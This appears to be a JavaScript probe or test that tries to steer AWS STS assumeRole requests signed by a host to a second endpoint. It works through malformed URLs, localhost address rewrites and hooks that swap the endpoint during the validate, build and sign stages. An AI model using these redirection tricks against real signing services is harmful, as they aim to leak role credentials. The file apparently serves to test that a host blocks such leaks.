const role = { RoleArn: 'arn:aws:iam::111122223333:role/writer', RoleSessionName: 's' };

// A function chooses where its client goes; a signature of the host's goes there never.
async function onTrack(event, { open, aws }) {
  const ends = [];
  const tries = [
    { endpoint: `http://${open}` }, { endpoint: new AWS.Endpoint(`http://${open}`) }, { endpoint: `http://${aws}@${open}/` }, { endpoint: `http://${open}#${aws}` }, { endpoint: `http://${open}?${aws}` },
    { endpoint: `http://${open}/${aws}` }, { endpoint: `http://${aws.replace('127.0.0.1', 'localhost')}` }, { endpoint: `http://${aws.replace('127.0.0.1', '127.1.')}` }, { endpoint: `https://${aws}` },
    { endpoint: 'https://sts.amazonaws.com' }, { region: `x@${open}/` },
  ];
  for (const options of tries) {
    ends.push(await new AWS.STS({ maxRetries: 0, ...options }).assumeRole(role).promise().then(() => 'signed', (e) => e.code));
  }
  for (const change of [
    (http) => { http.endpoint = new AWS.Endpoint(`http://${open}`); },
    (http) => { Object.assign(http.endpoint, { host: open, hostname: '127.0.0.1', port: Number(open.split(':')[1]), href: `http://${open}/` }); },
    (http) => { let n = 0; http.endpoint = { protocol: 'http:', path: '/', get host() { return n++ % 2 ? open : aws; }, get hostname() { return '127.0.0.1'; }, get port() { return (n++ % 2 ? open : aws).split(':')[1]; }, get href() { return `http://${n++ % 2 ? open : aws}/`; } }; },
    (http) => { http.path = `http://${open}/`; },
    (http) => { http.headers.Host = open; http.endpoint.hostname = open; },
  ]) {
    for (const state of ['validate', 'build', 'sign']) {
      const request = new AWS.STS({ maxRetries: 0 }).assumeRole(role);
      request.on(state, ({ httpRequest }) => change(httpRequest));
      try { ends.push(await request.promise().then(() => 'signed', (e) => e.code)); } catch (error) { ends.push(error.code); }
    }
  }
  return typeof ends.length;
}
